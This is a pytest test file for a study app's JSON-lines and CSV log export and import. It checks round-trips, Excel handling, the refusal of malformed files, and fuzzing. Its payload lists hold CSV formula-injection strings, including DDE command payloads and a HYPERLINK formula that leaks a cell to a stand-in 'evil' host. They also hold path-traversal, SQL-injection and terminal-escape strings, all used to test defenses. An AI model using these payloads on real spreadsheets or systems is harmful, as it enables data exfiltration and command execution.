"""The log as JSON lines and CSV: what goes out comes back, and nothing else comes in."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

import msgspec
import pandas as pd
import pytest
from hypothesis import given, settings
from tests.unit.store.conftest import unstamped
from tests.unit.store.test_roundtrip import logs

from adsp.desk.exchange import read_export
from adsp.errors import StoreError
from adsp.session.history import History
from adsp.store.check import check
from adsp.store.events import Answered, Event, Flagged, SessionStarted
from adsp.store.exchange.jsonl import BOM, write_jsonl
from adsp.store.exchange.table import COLUMNS, write_csv
from adsp.store.log import Log
from adsp.store.order import stamp_older
from adsp.store.rows import decode, encode, settle

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Sequence

FORMS = ("jsonl", "csv")
OWASP = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = [
    "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\n=1+1", '=HYPERLINK("http://evil?"&A1,"x")', "＝1+1", "＋1", "－1", "＠A1", "'=1+1", "''",
    "a,=1+1", 'a",=1+1', "a\n=1+1", "a\r\n=1+1", 'a"\r\n"=1+1', "-", "=", "+82-10-1234-5678",
]  # fmt: skip
"""What OWASP lists, alone and behind what might end a cell."""
ALTERED = [
    "3-2-2", "1-1-1", "10/12", "0.950", "1e5", "123456789e12", "007", ".5", "5%", "₩1,000", "(5)",
    "3월 5일", "Mar 1", "1 Sept", "dec-12", "true", "True", "1/2",
]  # fmt: skip
"""What Excel takes for a number, a date or a truth value, and saves in another form."""
OWN_NAUGHTY = [
    "", " ", "\0", "a\0b", "\ufeff", "\ufeffx", "x\u2028y", "\u202eabc", "\x1b[31m빨강\x1b[0m",
    "\x9b2J", "\x7f", "①②", "한글", "한글", "😀👨‍👩‍👧", "�", "\U0010ffff", "x[[2]]",
    'c("a"[1])', "[/]", "[red]", "{{7*7}}", "%s%n", "../../etc/passwd", "null", "NaN", "'", '"',
    '"""', "\\", "\\u0000", "\r", "\n", "\r\n", "\t", "," * 50, "'; DROP TABLE event; --",
    "x" * 9999, "1:30", "2021-11-06", "FALSE",
]  # fmt: skip
CORPUS = Path(__file__).parents[4] / "shared" / "data" / "naughty_strings.json"


def naughty() -> list[str]:
    """The Big List of Naughty Strings if it lies beside the checkout, and our own."""
    listed = json.loads(CORPUS.read_text(encoding="utf-8")) if CORPUS.is_file() else []
    return [*listed, *OWN_NAUGHTY, *PAYLOADS, *ALTERED]


def export(events: Iterable[Event], form: str) -> bytes:
    file = io.StringIO(newline="")
    (write_csv if form == "csv" else write_jsonl)(events, file)
    return file.getvalue().encode()


def ready(events: Iterable[Event]) -> list[Event]:
    """Events as a log hands them out."""
    return list(stamp_older([settle(event) for event in events]))


def cells(content: bytes) -> list[list[str]]:
    return [*csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)]


def table(rows: Iterable[Sequence[str]], **dialect: Any) -> str:
    file = io.StringIO(newline="")
    csv.writer(file, **dialect).writerows(rows)
    return file.getvalue()


@pytest.fixture
def events(story: list[Event]) -> list[Event]:
    """The story as a log hands it out."""
    return ready(story)


class TestRoundTrip:
    """Whatever the log holds."""

    @pytest.mark.parametrize("form", FORMS)
    @settings(deadline=None, max_examples=60)
    @given(logs().filter(lambda events: all(event.id for event in events)))
    def test_any_log(self, form: str, appended: list[Event]) -> None:
        assert read_export(export(ready(appended), form), "x") == ready(appended)

    @pytest.mark.parametrize("form", FORMS)
    def test_naughty_strings(self, form: str, events: list[Event]) -> None:
        """In every field that holds free text, and in a generated question."""
        answer, start = events[1], events[0]
        assert isinstance(answer, Answered)
        assert isinstance(start, SessionStarted)
        strange: list[Event] = []
        for n, text in enumerate(naughty()):
            items = (msgspec.structs.replace(start.items[0], generated={text: [text]}),)
            fields = {"given": text, "revision": text, "section": text}
            strange.append(msgspec.structs.replace(answer, id=f"a{n}", **fields))
            strange.append(msgspec.structs.replace(start, id=f"s{n}", title=text, items=items))
            if "\0" not in text:
                name = text or "x"
                strange.append(Flagged(id=f"f{n}{text}", at=answer.at, question=name, on=True))
        strange = ready(unstamped(strange))
        assert read_export(export(strange, form), "x") == strange

    @pytest.mark.parametrize("form", FORMS)
    def test_order_of_the_file_does_not_count(self, form: str, events: list[Event]) -> None:
        """A spreadsheet may have sorted it."""
        for n in range(5):
            shuffled = random.Random(n).sample(events, len(events))
            assert read_export(export(shuffled, form), "x") == events

    def test_as_text(self, events: list[Event]) -> None:
        """JSON lines are what any tool reads: one object a line, all of ``text`` in it."""
        lines = export(events, "jsonl").decode().splitlines()
        assert [json.loads(line)["id"] for line in lines] == [event.id for event in events]
        assert '"통계분석 · 4문항"' in lines[0]

    @pytest.mark.parametrize("form", FORMS)
    def test_older_export(self, form: str, events: list[Event]) -> None:
        """Without stamps the order of the file is the order; the stamps are those of an upgrade."""
        content = export(events, form)
        if form == "jsonl":
            content = re.sub(rb',"stamp":\d+', b"", content)
        else:
            rows = cells(content)
            content = table(
                [[c if n != 3 or r is rows[0] else "" for n, c in enumerate(r)] for r in rows]
            ).encode()
        assert b'"stamp"' not in content
        assert read_export(content, "x") == events


def as_excel_saves(cell: str) -> str:
    """What Excel in Korea makes of an unquoted cell: dates, numbers and truth values change."""
    if re.fullmatch(r"true|false", cell, re.IGNORECASE):
        return cell.upper()
    if re.fullmatch(r"\d{1,2}-\d{1,2}-\d{1,2}", cell):
        return "2003-02-02"
    if re.fullmatch(
        r"\d{1,2}[/-]\d{1,2}|\d{1,2}월 \d{1,2}일|[A-Za-z]{3,4}[ -]?\d+|\d+ [A-Z]\w{2,3}", cell
    ):
        return "03월 05일"
    try:
        number = float(cell.strip("₩()%").replace(",", ""))
    except ValueError:
        return cell
    return (
        f"{number:.5E}" if abs(number) >= 1e11 else f"{number:g}" if number % 1 else f"{number:.0f}"
    )


class TestSpreadsheet:
    """A table that Excel opens, shows as it is, and saves."""

    @pytest.mark.parametrize("text", PAYLOADS)
    def test_nothing_is_computed(self, events: list[Event], text: str) -> None:
        """No cell begins with a sign of a formula, and each text is one cell."""
        strange = [msgspec.structs.replace(e, **dict.fromkeys(changed(e), text)) for e in events]
        rows = cells(export(strange, "csv"))
        assert {len(row) for row in rows} == {len(COLUMNS)}
        assert not [cell for row in rows for cell in row if cell.startswith(OWASP)]

    @settings(deadline=None, max_examples=60)
    @given(logs())
    def test_nothing_is_computed_of_any_log(self, appended: list[Event]) -> None:
        """Of any log: what begins with a sign is a number."""
        found = [
            c for row in cells(export(ready(appended), "csv")) for c in row if c.startswith(OWASP)
        ]
        assert not [cell for cell in found if not re.fullmatch(r"-\d+", cell)]

    @pytest.mark.parametrize("text", [*PAYLOADS, *ALTERED])
    def test_seen_as_text(self, events: list[Event], text: str) -> None:
        """A program that guesses types finds text."""
        answer = msgspec.structs.replace(events[1], given=text)
        frame = pd.read_csv(io.BytesIO(export([answer], "csv")), encoding="utf-8-sig")
        assert frame["given"][0] in {text, f"'{text}"}
        assert frame["section"][0] == "'3-2-2"

    @pytest.mark.parametrize("text", ALTERED)
    def test_saved_by_excel(self, events: list[Event], text: str) -> None:
        """What Excel would take for something else comes back unharmed, and so do stamps."""
        assert as_excel_saves(text) != text
        strange = [msgspec.structs.replace(e, **dict.fromkeys(changed(e), text)) for e in events]
        rows = [[as_excel_saves(cell) for cell in row] for row in cells(export(strange, "csv"))]
        assert read_export(table(rows).encode(), "x") == strange

    def test_excel_of_korea(self, events: list[Event]) -> None:
        """It saves CP949 without a mark, and truth values in capitals."""
        text = export(events, "csv").decode("utf-8-sig")
        text = text.replace("true", "TRUE").replace("false", "FALSE")
        assert read_export(text.encode("cp949"), "x") == events

    def test_opens_in_excel(self, events: list[Event]) -> None:
        """By the mark it knows that the text is UTF-8."""
        content = export(events, "csv")
        assert content.startswith(BOM.encode())
        assert content.count(b"\r\n") == len(events) + 1

    @pytest.mark.parametrize("mark", ["", BOM, f"{BOM}\r\n\r\n", "\n\n", BOM * 2])
    @pytest.mark.parametrize("form", FORMS)
    def test_marks(self, events: list[Event], form: str, mark: str) -> None:
        """A byte order mark and empty lines before the first do not count."""
        text = export(events, form).decode("utf-8-sig")
        assert read_export((mark + text).encode(), "x") == events

    def test_columns_in_any_order(self, events: list[Event]) -> None:
        rows = [row[::-1] for row in cells(export(events, "csv"))]
        assert read_export(table(rows).encode(), "x") == events

    @pytest.mark.parametrize(
        "dialect",
        [
            pytest.param({"quoting": csv.QUOTE_ALL}, id="all quoted"),
            pytest.param({"lineterminator": "\n"}, id="line feeds"),
            pytest.param({"lineterminator": "\r"}, id="carriage returns"),
        ],
    )
    def test_dialects(self, events: list[Event], dialect: dict[str, Any]) -> None:
        content = table(cells(export(events, "csv")), **dialect)
        assert read_export(content.encode(), "x") == events

    def test_columns(self) -> None:
        """Every field of every kind has one."""
        fields = {name for event in logs_of_all_kinds() for name in msgspec.to_builtins(event)}
        assert fields == {*COLUMNS}

    def test_stamp_shortened(self, events: list[Event]) -> None:
        """A table whose stamps some program has rounded is refused, not taken in in disorder."""
        rows = cells(export(events, "csv"))
        for row in rows[1:]:
            row[3] = "1.63343E+12"
        with pytest.raises(StoreError, match=r"2번째 줄: stamp 의 끝자리"):
            read_export(table(rows).encode(), "x")


def changed(event: Event) -> list[str]:
    """Free texts of an event."""
    return [name for name in ("given", "section", "revision", "title") if hasattr(event, name)]


def logs_of_all_kinds() -> list[Event]:
    at = "2021-10-05T20:00:00+09:00"
    base = {"id": "x", "at": at, "session": "s", "stamp": 1}
    kinds: list[dict[str, Any]] = [
        {"type": "session", "mode": "quiz", "title": "", "items": [], **base},
        {"type": "answer", "place": 0, "question": "q", "revision": "", "section": "", "given": "",
         "verdict": "right", "elapsed_ms": 1, **base},
        {"type": "ruling", "answer": "a", "verdict": "right", **base},
        {"type": "retraction", "answer": "a", "back": True, **base},
        {"type": "flag", "question": "q", "on": True, "id": "f", "at": at, "stamp": 1},
        {"type": "end", "finished": True, **base},
    ]  # fmt: skip
    return [decode(json.dumps(kind)) for kind in kinds]


GOOD = '{"type":"flag","id":"f","at":"2021-10-05T20:00:00+09:00","question":"q","on":true}'
START = (
    '{"type":"session","id":"s","at":"2021-10-05T20:00:00+09:00","session":"s","mode":"quiz",'
    '"title":"t","items":[{"question":"q","seed":1}]}'
)
DEEP = "[" * 100_000
MANY = "".join(f'"{n}":0,' for n in range(100_000))


def flag(old: str, new: str) -> str:
    assert old in GOOD
    return GOOD.replace(old, new)


def stamp(number: str) -> str:
    return GOOD[:-1] + f',"stamp":{number}}}'


def generated(value: str) -> str:
    return START.replace('"seed":1', f'"seed":1,"generated":{value}')


LINES = [
    pytest.param(GOOD[:-1], id="cut off"),
    pytest.param(GOOD + GOOD, id="two in a line"),
    pytest.param(f"[{GOOD}]", id="list"),
    pytest.param("1", id="number"),
    pytest.param("null", id="null"),
    pytest.param("{}", id="empty object"),
    pytest.param(flag('"flag"', '"exam"'), id="unknown kind"),
    pytest.param(flag('"type":"flag",', ""), id="no kind"),
    pytest.param(flag('"on":true', '"on":true,"why":1'), id="unknown field"),
    pytest.param(flag('"on":true', '"on":"yes"'), id="wrong type"),
    pytest.param(flag('"on":true', '"on":null'), id="nothing"),
    pytest.param(flag(',"on":true', ""), id="missing field"),
    pytest.param(flag('"id":"f"', '"id":"f","id":"g"'), id="field twice"),
    pytest.param(generated('{"a":1,"a":2}'), id="field twice, further in"),
    pytest.param(generated(f"{{{(MANY + MANY)[:-1]}}}"), id="many fields twice"),
    pytest.param(flag('"id":"f"', '"id":""'), id="empty id"),
    pytest.param(flag('"id":"f"', r'"id":"f\u0000g"'), id="id with a NUL"),
    pytest.param(flag('"q"', r'"q\u0000"'), id="name with a NUL"),
    pytest.param(flag('"q"', r'"\ud800"'), id="half a surrogate pair"),
    pytest.param(flag("+09:00", ""), id="time without offset"),
    pytest.param(flag("2021-10-05", "2021-13-05"), id="no such month"),
    pytest.param(flag("2021-10-05", "0001-01-01"), id="year 1"),
    pytest.param(flag("2021-10-05T20:00:00+09:00", "9999-12-31T23:00:00-09:00"), id="year 10000"),
    pytest.param(flag("2021-10-05T20:00:00+09:00", "어제"), id="no time"),
    pytest.param(stamp("-1"), id="negative stamp"),
    pytest.param(stamp(str(2**48 + 1)), id="absurd stamp"),
    pytest.param(stamp("1" + "0" * 30), id="stamp beyond SQLite"),
    pytest.param(stamp("9" * 5000), id="endless stamp"),
    pytest.param(stamp("1.5"), id="half a stamp"),
    pytest.param(stamp("NaN"), id="NaN"),
    pytest.param(generated('{"x":NaN}'), id="NaN in a question"),
    pytest.param(generated('{"x":1e999}'), id="infinite"),
    pytest.param(generated('{"x":%s}' % ("9" * 4000)), id="huge number in a question"),
    pytest.param(START.replace('"seed":1', f'"seed":{2**63}'), id="seed beyond SQLite"),
    pytest.param(generated('{"x":' + "[" * 40 + "]" * 40 + "}"), id="too deep"),
    pytest.param(generated('{"x":' + "[" * 930 + "]" * 930 + "}"), id="as deep as Python goes"),
    pytest.param(generated('{"x":' + DEEP), id="endlessly deep"),
    pytest.param(DEEP, id="only brackets"),
    pytest.param(DEEP.replace("[", '{"a":'), id="only braces"),
    pytest.param("x" * 20_000_000, id="20 MB of a letter"),
    pytest.param(flag('"q"', f'"{"가" * 20_000_000}"'), id="20 MB of a name"),
    pytest.param(flag('"q"', r'"q\u001b[2J"') + "\x1b]0;x\x07", id="escape sequence"),
    pytest.param("<<<<<<< HEAD", id="git conflict"),
]  # fmt: skip
CELLS = [
    pytest.param("type", "exam", id="unknown kind"),
    pytest.param("type", "", id="no kind"),
    pytest.param("id", "", id="empty id"),
    pytest.param("id", "f\0g", id="id with a NUL"),
    pytest.param("at", "2021-10-05T20:00:00", id="time without offset"),
    pytest.param("at", "2021-10-05 20:00", id="time as a spreadsheet writes it"),
    pytest.param("at", "", id="no time"),
    pytest.param("stamp", "-1", id="negative stamp"),
    pytest.param("stamp", "9" * 40, id="absurd stamp"),
    pytest.param("stamp", "9" * 5000, id="endless stamp"),
    pytest.param("stamp", "nan", id="NaN"),
    pytest.param("on", "예", id="no truth value"),
    pytest.param("question", "a\0b", id="name with a NUL"),
    pytest.param("mode", "quiz", id="field of another kind"),
    pytest.param("items", DEEP, id="endlessly deep"),
    pytest.param("items", "[{]", id="no JSON"),
    pytest.param("items", '[{"question":"q","question":"p","seed":1}]', id="field twice"),
    pytest.param("title", "가" * 10_000_000, id="10 MB in the wrong place"),
]
FILES = [
    pytest.param(b"", id="empty"),
    pytest.param(b" \n\r\n\t", id="blank"),
    pytest.param(BOM.encode(), id="only a mark"),
    pytest.param(bytes(range(256)) * 40, id="binary"),
    pytest.param(b"\0" * 100_000, id="zeros"),
    pytest.param(GOOD.encode("utf-16"), id="UTF-16"),
    pytest.param(b"SQLite format 3\0" + bytes(4080), id="a database"),
    pytest.param(b"PK\x03\x04" + bytes(200), id="a workbook"),
    pytest.param("오늘은 통계를 공부했다.\n".encode(), id="prose"),
    pytest.param(b"type,id,at\r\n", id="too few columns"),
    pytest.param(",".join([*COLUMNS, "more"]).encode(), id="too many columns"),
    pytest.param(",".join([*COLUMNS[:-1], "id"]).encode(), id="a column twice"),
    pytest.param(",".join([*COLUMNS, "id"]).encode(), id="a column twice beside all"),
    pytest.param("\t".join(COLUMNS).encode(), id="tabs"),
    pytest.param(b"," * 2_000_000, id="endless header"),
    pytest.param(b'"' + b"x" * 20_000_000, id="endless quote"),
    pytest.param(b'"a"b,c\r\n', id="broken quotes"),
    pytest.param(b"\x1b[2J,\x1b]0;x\x07\r\n", id="escape sequences"),
    pytest.param(b"{\n" * 300_000, id="faults without end"),
]


def refused(content: bytes) -> str:
    """How it is refused: in a few lines that are safe to print."""
    with pytest.raises(StoreError) as caught:
        read_export(content, "받은\x1b[31m.jsonl")
    told = str(caught.value)
    assert len(told) < 10_000
    assert not set(told) & {chr(n) for n in (*range(10), *range(11, 32), *range(127, 160))}
    return told


class TestBroken:
    """A file that is none, or not wholly one: refused whole, with the numbers of all such lines."""

    @pytest.mark.parametrize("line", LINES)
    def test_lines(self, line: str) -> None:
        """The lines around it are sound."""
        other = flag('"id":"f"', '"id":"other"')
        told = refused(f"{other}\n\n{line}\n{START}\n{line}".encode())
        assert "2곳 있어 아무것도 받지 않았습니다" in told
        assert re.findall(r"^(\d+)번째 줄: .", told, re.MULTILINE) == ["3", "5"]

    @pytest.mark.parametrize(("column", "cell"), CELLS)
    def test_cells(self, events: list[Event], column: str, cell: str) -> None:
        rows = cells(export([events[6]], "csv")) * 2
        rows[2:] = [[*rows[1]]]
        rows[2][COLUMNS.index(column)] = cell
        assert "\n3번째 줄: " in refused(table(rows).encode())

    @pytest.mark.parametrize("change", [lambda row: row[:-1], lambda row: [*row, ""]])
    def test_rows(self, events: list[Event], change: Callable[[list[str]], list[str]]) -> None:
        """One cell too few, or too many."""
        header, row = cells(export(events[:1], "csv"))
        assert "2번째 줄: 칸이 19개가 아니라" in refused(table([header, change(row)]).encode())

    @pytest.mark.parametrize("content", FILES)
    def test_files(self, content: bytes) -> None:
        assert refused(content)

    def test_only_a_header(self) -> None:
        """A log without answers goes out as that, and comes back."""
        assert read_export(export([], "csv"), "x") == []

    @pytest.mark.parametrize("form", FORMS)
    def test_cut_anywhere(self, events: list[Event], form: str) -> None:
        """A file that breaks off is refused, unless it breaks off between two events."""
        content = export(events, form)
        for at in range(4, len(content), 3):
            try:
                found = read_export(content[:at], "x")
            except StoreError:
                continue
            assert found == events[: len(found)]


def mutated(content: bytes, rng: random.Random) -> bytes:
    """A file as a bad disk, a bad editor or a bad merge leaves it."""
    lines = content.splitlines(keepends=True)
    match rng.randrange(6):
        case 0:
            changed = bytearray(content)
            for _ in range(rng.choice([1, 1, 1, 3, 30])):
                changed[rng.randrange(len(changed))] = rng.randrange(256)
            return bytes(changed)
        case 1:
            changed = bytearray(content)
            changed[rng.randrange(len(changed))] ^= 1 << rng.randrange(8)
            return bytes(changed)
        case 2:
            at, other = sorted(rng.randrange(len(content)) for _ in range(2))
            return content[:at] + content[other:]
        case 3:
            at, other = (rng.randrange(len(lines)) for _ in range(2))
            lines[at], lines[other] = lines[other], lines[at]
            return b"".join(lines)
        case 4:
            at, other = (rng.randrange(len(lines)) for _ in range(2))
            cut = rng.randrange(len(lines[at]))
            lines[at] = lines[at][:cut] + lines[other][cut:]
            return b"".join(lines)
        case _:
            at, other = sorted(rng.randrange(len(content)) for _ in range(2))
            return content[:other] + content[at:other] + content[other:]


def fuzz(path: Path, events: Sequence[Event], form: str, rounds: int) -> tuple[int, int]:
    """Import mutated exports into one log; how many were taken and how many refused."""
    content, taken, refusals = export(events, form), 0, 0
    with Log.open(path) as log:
        for n in range(rounds):
            try:
                found = read_export(mutated(content, random.Random(n)), "x")
                log.take_in(found)
            except StoreError:
                refusals += 1
                continue
            taken += 1
            assert [settle(event) for event in found] == found
            assert [decode(encode(event)) for event in found] == found
        held = log.events()
    assert all(event.day for event in held)
    History(held)
    assert [finding for finding in check(path) if finding.kind != "sense"] == []
    assert read_export(export(held, form), "x") == held
    return taken, refusals


class TestMutated:
    """Thousands of exports that went wrong on the way."""

    @pytest.mark.parametrize("form", FORMS)
    def test_refused_or_sound(self, path: Path, events: list[Event], form: str) -> None:
        """What is taken in leaves a log that is whole, opens, and goes out again."""
        taken, refusals = fuzz(path, events, form, 1_200)
        assert taken > 20
        assert refusals > 600

    @pytest.mark.long
    @pytest.mark.parametrize("form", FORMS)
    def test_refused_or_sound_long(self, path: Path, events: list[Event], form: str) -> None:
        assert sum(fuzz(path, events, form, 50_000)) == 50_000
